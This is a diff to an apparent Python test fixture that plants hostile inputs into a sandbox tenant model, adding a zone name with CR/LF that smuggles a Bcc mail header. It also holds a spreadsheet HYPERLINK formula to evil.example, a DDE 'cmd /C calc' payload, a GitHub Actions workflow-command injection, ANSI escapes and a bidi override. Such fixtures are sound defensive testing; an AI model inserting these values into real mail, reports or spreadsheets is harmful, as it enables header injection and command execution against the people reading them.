@@ -8,6 +8,7 @@ rewrites a generated :class:`~audit.sandbox.model.Tenant` in place so that it ca
 * a technician name holding a newline followed by a GitHub Actions workflow command, an ANSI
   escape and a bidi override;
 * NUL, BEL and ``\\x01`` in ticket titles and a technician name (characters XML cannot hold);
+* CR/LF in the zone name, which becomes the tenant's name on the reports and the mail subject;
 * a lone surrogate in a ticket title and in a note (the emulator serves it as a ``\\ud800`` JSON
   escape, as a .NET server does for a broken UTF-16 string).
 
@@ -19,7 +20,7 @@ from __future__ import annotations
 
 from audit.sandbox.model import Tenant
 
-__all__ = ["HOSTILE_NAMES", "INJECTED_COMMAND", "make_hostile"]
+__all__ = ["HOSTILE_NAMES", "HOSTILE_ZONE", "INJECTED_COMMAND", "make_hostile"]
 
 #: The workflow command the newline-bearing technician name tries to start a line with.
 INJECTED_COMMAND = "::add-mask::hijacked"
@@ -29,6 +30,8 @@ HOSTILE_NAMES: tuple[tuple[str, str], ...] = (
     ("=HYPERLINK(\"http://evil.example\",\"x\")", "Formula Bel\x07 Nul\x00 Ctrl\x01"),
     ("Eve", f"Newline\n{INJECTED_COMMAND}\r\n\x1b[2J\u202eevil"),
 )
+#: The zone name, as zone discovery answers it.
+HOSTILE_ZONE = "Hostile\r\nBcc: thief@example.test\r\nZone"
 _QUEUE = ("Projects", "+cmd|' /C calc'!A0")
 _TICKET_NUMBER = "=1+2 "
 _TITLES = ("Printer\x00jam", "Bell\x07 ringing", "Start\x01of heading", "Broken \ud800 surrogate")
@@ -37,6 +40,7 @@ _NOTE = "Customer wrote \udc80 in a broken mail client"
 
 def make_hostile(tenant: Tenant) -> Tenant:
     """Plant the attacks above in ``tenant`` (changed in place and returned)."""
+    tenant.zone["zoneName"] = HOSTILE_ZONE
     resources = tenant.records["Resources"]
     for resource, (first, last) in zip(resources, HOSTILE_NAMES, strict=False):
         resource["firstName"], resource["lastName"] = first, last
